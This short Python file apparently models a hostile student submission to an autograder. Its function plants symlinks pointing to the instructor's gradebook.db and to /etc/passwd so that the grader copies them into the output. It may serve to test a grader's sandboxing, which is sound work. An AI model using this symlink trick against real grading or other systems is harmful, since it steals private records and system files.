"""Has the grader copy a file of the instructor's into the result."""

from __future__ import annotations

from pathlib import Path


def hand_in(folder: Path) -> None:
    (folder / "stolen.txt").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "passwd").symlink_to("/etc/passwd")
